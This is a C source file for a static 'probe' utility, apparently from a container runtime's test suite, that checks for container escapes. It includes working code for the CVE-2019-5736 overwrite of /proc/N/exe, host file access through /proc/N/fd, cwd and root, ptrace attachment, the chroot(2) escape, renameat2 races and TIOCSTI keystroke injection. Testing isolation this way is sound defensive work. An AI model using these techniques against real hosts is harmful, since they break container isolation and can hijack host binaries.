/* What busybox cannot do in a container, one verb each; static, so that it runs in any rootfs.
 *
 *   probe exchange A B SECONDS [MICROSECONDS]   swap two names by renameat2 in a loop
 *   probe exes SECONDS          open /proc/N/exe of every newcomer, reopen it for writing
 *   probe fds FILE SECONDS      reach the host's FILE through /proc/N/{fd/K,cwd,root} of newcomers,
 *                               and attach to those that are not programs of this rootfs
 *   probe write PATH            write through a path; prints "wrote" or "errno N"
 *   probe reach FILE            reach the host's FILE through .. of the working directory
 *   probe chroot FILE           the same after the classic escape from chroot(2)
 *   probe keyring               description of the session keyring
 *   probe cwd                   raw getcwd(2), which says "(unreachable)" where libc fails
 *   probe fdlist                "N TARGET" for each open descriptor above 2
 *   probe creds                 uid, gid, groups and capability sets
 *   probe signals               ignored, blocked and caught masks
 *   probe leaderless            end the main thread (pthread_exit(3)) and go on with another
 *   probe push                  put a character into the input of the terminal on descriptor 0
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

static int exchange(const char *a, const char *b, double seconds, useconds_t pause)
{
	double end = now() + seconds;
	unsigned long swaps = 0;

	while (now() < end) {
		for (int i = 0; i < 64; i++) {
			if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0)
				swaps++;
			if (pause)
				usleep(pause);
		}
	}
	printf("swaps %lu\n", swaps);
	return swaps ? 0 : 1;
}

static unsigned long seen, held, written;

/* Calls look(pid) for every process but ourselves, over and over, until the time is up; for a
 * minute more while nobody came: a loaded machine is slow. */
static void watch(double seconds, void (*look)(const char *pid))
{
	double end = now() + seconds;
	char own[16];

	snprintf(own, sizeof own, "%d", getpid());
	while (now() < end + (seen ? 0 : 60)) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		if (!proc)
			return;
		while ((entry = readdir(proc)))
			if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' &&
			    strcmp(entry->d_name, "1") != 0 && strcmp(entry->d_name, own) != 0)
				look(entry->d_name);
		closedir(proc);
	}
}

/* A program of a test's rootfs, which the container may do with as it likes. */
static int is_known(const char *exe)
{
	char target[256];
	ssize_t length = readlink(exe, target, sizeof target - 1);

	target[length > 0 ? length : 0] = '\0';
	return !strcmp(target, "/bin/busybox") || !strcmp(target, "/probe");
}

/* Holds a newcomer's program open and reopens it for writing, also after the newcomer's execve,
 * when the kernel no longer answers ETXTBSY (CVE-2019-5736). */
static void look_exe(const char *pid)
{
	char path[64], link[64], target[256];
	ssize_t length;
	int fd, again;

	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	seen++;
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	length = readlink(path, target, sizeof target - 1);
	target[length > 0 ? length : 0] = '\0';
	snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
	if (is_known(link)) {
		close(fd);
		return;
	}
	held++;
	printf("held %s %s\n", pid, target);
	for (int i = 0; i < 400; i++) {
		again = open(link, O_WRONLY | O_CLOEXEC);
		if (again >= 0) {
			if (write(again, "#!/pwned\n", 9) == 9) {
				written++;
				printf("written %s\n", target);
			}
			close(again);
			break;
		}
		usleep(500);
	}
	close(fd);
}

static unsigned long opened, traced;
static const char *prize; /* absolute path of a file that only the host has */

/* Tries the prize from a directory: below it, and above it as far as .. goes. */
static int reaches(int directory)
{
	char path[4096];
	int fd;

	snprintf(path, sizeof path, "../../../../../../../../../../../..%s", prize);
	fd = openat(directory, path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0)
		fd = openat(directory, prize + 1, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0)
		return 0;
	close(fd);
	return 1;
}

/* Attaches, stops it, and looks again: an execve in between makes it a program of the rootfs. */
static void look_trace(const char *pid)
{
	char path[64];
	int status, process = atoi(pid);

	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	if (is_known(path))
		return;
	if (ptrace(PTRACE_SEIZE, process, 0, 0) != 0)
		return;
	if (ptrace(PTRACE_INTERRUPT, process, 0, 0) == 0 &&
	    waitpid(process, &status, __WALL) == process && WIFSTOPPED(status) &&
	    !is_known(path)) {
		char target[256];
		ssize_t length = readlink(path, target, sizeof target - 1);

		target[length > 0 ? length : 0] = '\0';
		traced++;
		printf("traced %s %s\n", pid, target);
	}
	ptrace(PTRACE_DETACH, process, 0, 0);
}

static void look_fds(const char *pid)
{
	char path[64];

	seen++;
	for (int i = -2; i < 24; i++) {
		if (i < 0)
			snprintf(path, sizeof path, "/proc/%s/%s", pid, i == -1 ? "cwd" : "root");
		else
			snprintf(path, sizeof path, "/proc/%s/fd/%d", pid, i);
		int fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);

		if (fd < 0)
			continue;
		if (reaches(fd)) {
			char link[256];
			ssize_t length = readlink(path, link, sizeof link - 1);

			link[length > 0 ? length : 0] = '\0';
			opened++;
			printf("opened %s -> %s\n", path, link);
		}
		close(fd);
	}
	look_trace(pid);
}

static int verdict(int reached)
{
	puts(reached ? "reached" : "not reached");
	return 0;
}

static int escape_chroot(void)
{
	mkdir("/escape", 0700);
	if (chroot("/escape") != 0) {
		printf("errno %d\n", errno);
		return 0;
	}
	return verdict(reaches(AT_FDCWD)); /* the working directory is still outside */
}

static int describe_keyring(void)
{
	char text[512] = "";

	if (syscall(SYS_keyctl, 6 /* KEYCTL_DESCRIBE */, -3 /* session keyring */, text,
		    sizeof text - 1) < 0)
		printf("errno %d\n", errno);
	else
		puts(text);
	return 0;
}

static int list_fds(void)
{
	DIR *fds = opendir("/proc/self/fd");
	struct dirent *entry;

	while (fds && (entry = readdir(fds))) {
		char path[300], target[256];
		ssize_t length;
		int fd = atoi(entry->d_name);

		if (fd <= 2 || fd == dirfd(fds))
			continue;
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		length = readlink(path, target, sizeof target - 1);
		target[length > 0 ? length : 0] = '\0';
		printf("%d %s\n", fd, target);
	}
	return fds ? 0 : 1;
}

/* Prints the lines of /proc/self/status whose names start with one of two words. */
static int status_lines(const char *first, const char *second)
{
	FILE *status = fopen("/proc/self/status", "r");
	char line[256];

	while (status && fgets(line, sizeof line, status))
		if (strncmp(line, first, strlen(first)) == 0 ||
		    strncmp(line, second, strlen(second)) == 0)
			fputs(line, stdout);
	return status ? 0 : 1;
}

static int write_path(const char *path)
{
	int fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);

	if (fd < 0 || write(fd, "pwned\n", 6) != 6) {
		printf("errno %d\n", errno);
		return 0;
	}
	puts("wrote");
	return 0;
}

/* The main thread ends, another goes on. */
static void *linger(void *nothing)
{
	for (;;)
		pause();
	return nothing;
}

static int leave_threads(void)
{
	pthread_t other;
	if (pthread_create(&other, NULL, linger, NULL) != 0)
		return 1;
	syscall(SYS_exit, 0);
	return 1;
}

int main(int argc, char **argv)
{
	const char *verb = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (!strcmp(verb, "exchange") && argc >= 5)
		return exchange(argv[2], argv[3], atof(argv[4]), argc > 5 ? atoi(argv[5]) : 0);
	if (!strcmp(verb, "exes") && argc == 3) {
		puts("ready");
		watch(atof(argv[2]), look_exe);
		printf("seen %lu held %lu written %lu\n", seen, held, written);
		return 0;
	}
	if (!strcmp(verb, "fds") && argc == 4) {
		prize = argv[2];
		puts("ready");
		watch(atof(argv[3]), look_fds);
		printf("seen %lu opened %lu traced %lu\n", seen, opened, traced);
		return 0;
	}
	if (!strcmp(verb, "write") && argc == 3)
		return write_path(argv[2]);
	if (!strcmp(verb, "reach") && argc == 3) {
		prize = argv[2];
		return verdict(reaches(AT_FDCWD));
	}
	if (!strcmp(verb, "chroot") && argc == 3) {
		prize = argv[2];
		return escape_chroot();
	}
	if (!strcmp(verb, "keyring"))
		return describe_keyring();
	if (!strcmp(verb, "cwd")) {
		char path[4096];

		if (syscall(SYS_getcwd, path, sizeof path) < 0)
			printf("errno %d\n", errno);
		else
			puts(path);
		return 0;
	}
	if (!strcmp(verb, "leaderless"))
		return leave_threads();
	if (!strcmp(verb, "fdlist"))
		return list_fds();
	if (!strcmp(verb, "creds"))
		return status_lines("Cap", "Groups") | status_lines("Uid", "Gid");
	if (!strcmp(verb, "signals"))
		return status_lines("Sig", "Shd");
	if (!strcmp(verb, "push")) {
		if (ioctl(0, TIOCSTI, "x") < 0)
			printf("errno %d\n", errno);
		else
			puts("pushed");
		return 0;
	}
	fprintf(stderr, "probe: unknown verb %s\n", verb);
	return 2;
}
